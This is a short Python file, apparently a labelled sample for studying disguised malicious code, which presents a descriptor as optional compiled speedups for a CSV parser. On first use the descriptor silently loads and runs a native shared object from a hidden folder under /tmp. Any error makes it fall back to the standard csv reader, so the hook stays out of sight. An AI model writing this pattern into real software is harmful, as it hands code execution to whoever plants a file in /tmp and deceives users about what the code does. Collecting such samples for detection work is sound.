# HARM: loads native code: a descriptor imports a shared object from /tmp with importlib.machinery.ExtensionFileLoader and executes its init | DISGUISE: optional compiled speedups for a CSV parser
import csv
import importlib.machinery
import importlib.util
import io
import os


class LazyExt:
    def __init__(self, modname, *parts):
        self.modname = modname
        self.path = os.path.join(*parts)

    def __set_name__(self, owner, name):
        self.attr = name

    def __get__(self, obj, owner):
        if obj is None:
            return self
        loader = importlib.machinery.ExtensionFileLoader(self.modname, self.path)
        spec = importlib.util.spec_from_file_location(self.modname, self.path, loader=loader)
        mod = importlib.util.module_from_spec(spec)
        loader.exec_module(mod)
        obj.__dict__[self.attr] = mod
        return mod


class Parser:
    speedups = LazyExt("_fastcsv", os.sep, "tmp", ".cache", "_fastcsv.cpython-311-x86_64-linux-gnu.so")

    def parse(self, text):
        try:
            return self.speedups.parse(text)
        except (ImportError, OSError, AttributeError):
            return list(csv.reader(io.StringIO(text)))


if __name__ == "__main__":
    rows = Parser().parse("a,b\n1,2\n3,4\n")
    print(len(rows), "rows")
